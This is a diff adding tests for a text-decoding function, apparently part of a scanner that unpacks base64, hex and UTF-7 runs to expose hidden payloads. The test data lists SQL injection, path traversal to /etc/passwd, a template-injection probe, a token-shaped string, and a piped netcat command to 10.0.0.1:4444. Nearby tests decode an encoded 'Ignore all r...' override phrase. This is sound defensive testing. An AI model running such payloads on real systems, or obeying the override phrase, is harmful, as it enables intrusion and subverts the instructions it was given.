@@ -270,6 +270,18 @@ describe('eachView', () => {
   });
 
   it.each([
+    "' or '1'='1' --",
+    '../../../etc/passwd',
+    '{{7*7}}{{config}}',
+    'ghp_00c7e42f292c6912e7710c838347ae178b4a',
+    '| nc 10.0.0.1 4444',
+  ])('reads %s, which has few letters, in base64 and hex', (payload) => {
+    for (const run of [base64(payload), Buffer.from(payload).toString('hex')]) {
+      expect(viewsOf(`do: ${run}`).views[0]?.text).toContain(payload);
+    }
+  });
+
+  it.each([
     ['base64', 'SWdub3JlIGFsbCBy, ', 'Ignore all r, '],
     ['UTF-7', '+AGkAZwBuAG8AcgBl- ', 'ignore '],
   ])('reads more runs of %s than a call may have arguments', (_, run, read) => {
